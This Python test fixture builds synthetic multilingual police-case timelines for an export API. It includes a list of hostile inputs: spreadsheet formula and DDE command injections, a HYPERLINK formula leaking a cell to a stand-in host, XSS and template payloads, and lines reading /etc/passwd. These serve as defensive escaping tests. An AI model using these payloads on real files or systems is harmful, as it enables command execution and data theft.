"""Made-up timelines of any length in four languages, and texts that somebody might write to harm a reader of a file."""

import random
from datetime import UTC, datetime, timedelta
from uuid import UUID

from coopapi.exports.formats.common import About
from coopapi.exports.timelines.entries import CaseHead, Head

MADE = datetime(2026, 11, 29, 19, 30, tzinfo=UTC)
CASES = (("NL-2026-0117", "NL"), ("FR-26-441", "FR"), ("RO-2026-9", "RO"))
SENTENCES = {
    "en": ["A bank account was opened.", "A parcel was handed over at a pick-up point.", "Two suspects met near the station."],
    "fr": ["Un compte bancaire a été ouvert.", "Un colis a été remis dans un point relais.", "Deux suspects se sont rencontrés à la gare."],
    "es": ["Se abrió una cuenta bancaria.", "Se entregó un paquete en un punto de recogida.", "Dos sospechosos se reunieron en la estación."],
    "pt": ["Foi aberta uma conta bancária.", "Uma encomenda foi entregue num ponto de recolha.", "Dois suspeitos encontraram-se na estação."],
}  # fmt: skip
HOSTILE = [
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1", "'=1+1", "''", '"=1+1"',
    '=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1",
    "a,=1+1", 'a","=1+1', "a;=1+1", "a\r\n=1+1", "a\n@SUM(1)", "=1+1\x00", 'DDE("cmd";"/C calc";"x")',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title></style><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<!--", "&lt;script&gt;", "javascript:alert(1)", "{{ 7 * 7 }}{% raw %}",
    '#panic("no") #{1 + 1} $x^2$ *b* = h @ref <label> `raw` // c', '#read("/etc/passwd") #include "/etc/passwd"',
    "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VEVENT", "x\nATTACH:file:///etc/passwd", "a;VALUE=URI:http://x.example", "\\n\\,\\;",
    "a\u202eexe.gnp", "\u2066x", "\u0007bell", "\ufeffmark", "\ud7ff\ue000", "\U0001f600", "中文名", "مالك الحزين", "חסידה", "e\u0301\u0302\u0303",
    "W" * 4000, "word " * 800, "", " ", "NULL", "NaN", "0x1F", "1e5", "12/11", "TRUE",
]  # fmt: skip


def head_of(language="en", cases=2, code="H1", **more):
    about = About(
        UUID(int=9), "1", MADE, UUID(int=7), "National Police", "NL", more.get("recipient", "Cyber Prosecution Office"),
        "investigation", code, more.get("conditions", ()),
    )  # fmt: skip
    heads = [
        CaseHead(
            str(UUID(int=n)), more.get("reference", name), more.get("title", "Operation Heron"), "National Police", country, code
        )
        for n, (name, country) in enumerate(CASES[:cases], 1)
    ]
    return Head(about, language, heads)


def entry(n, at=MADE, case=1, kind="fact", **more):
    known = {"precision": "minute" if at else None, "offset": "+02:00" if kind == "fact" else None, "sentence": f"Entry {n}."}
    basis = {"basis": "fact"} if kind == "fact" else {}
    return {
        "id": str(UUID(int=1000 + n)), "kind": kind, "begins_at": at, "recorded_at": MADE, "type": "kind", "handling_code": "H1", "ends_at": None,
        "case": {"id": str(UUID(int=case)), "reference": CASES[case - 1][0]}, "authority": {"name": "National Police", "country": "NL"},
        "object": {"type": kind, "id": str(UUID(int=1000 + n)), "name": None}, "co_occurrences": [], **known, **basis, **more,
    }  # fmt: skip


def made(count, language="en", seed=1):
    """The head and the entries of a timeline: over 16 months, of all precisions, some without a time, some that coincide."""
    chance = random.Random(seed)
    cases = 2 if count < 100 else 3
    entries = []
    for n in range(count):
        kind = chance.choice(["fact", "fact", "act"])
        precision = chance.choice(["second", "minute", "hour", "day", "month", "year"]) if kind == "fact" else "second"
        at = datetime(2025, 3, 1, tzinfo=UTC) + timedelta(minutes=int(chance.betavariate(2, 1.2) * 60 * 24 * 500))
        at = None if kind == "fact" and n % 29 == 7 else at
        more = {
            "text": "A witness remembers the colour of the car.",
            "confidence": "low",
            "source_grading": "B",
            "information_grading": "2",
        }
        more |= {"subjects": [{"id": "s", "pseudonym": "P1", "category": "suspect"}], "identifiers": [{"id": "i", "kind": "phone"}]}
        more |= {"place": {"name": "Delft", "country": "NL", "latitude": -52.0, "longitude": 4.36}}
        said = chance.choice(SENTENCES[language])
        extra = more if kind == "fact" and chance.random() < 0.4 else {}
        basis = {"basis": chance.choice(["fact", "assessment"])} if kind == "fact" else {}
        entries.append(entry(n, at, chance.randint(1, cases), kind, sentence=said, precision=at and precision, **basis, **extra))
    for kind in ["identifier", "place", "minute"] * (count and max(1, count // 60)):
        one, other = chance.sample(entries, 2)
        if one["case"] != other["case"]:
            one["co_occurrences"].append({"kind": kind, "with": [other["id"]]})
            other["co_occurrences"].append({"kind": kind, "with": [one["id"]]})
    return head_of(language, cases), entries


COUNTED = {"left_out": [{"what": "act", "why": "of_others", "count": 3}, {"what": "fact", "why": "victim", "count": 1}]}
